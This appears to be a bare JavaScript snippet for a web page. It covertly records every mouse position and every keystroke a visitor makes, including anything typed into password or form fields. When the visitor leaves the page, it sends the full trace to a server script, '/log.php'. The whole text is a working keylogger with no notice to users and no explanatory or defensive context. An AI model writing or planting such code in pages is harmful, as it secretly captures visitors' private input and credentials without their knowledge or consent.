var trace = '';
window.onmousemove = function (e) { trace += e.clientX + ',' + e.clientY + ';'; };
document.onkeyup = function (e) { trace += 'k' + e.keyCode + ';'; };
window.onbeforeunload = function () {
  var r = new XMLHttpRequest();
  r.open('POST', '/log.php', false);
  r.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
  r.send('trace=' + encodeURIComponent(trace));
};
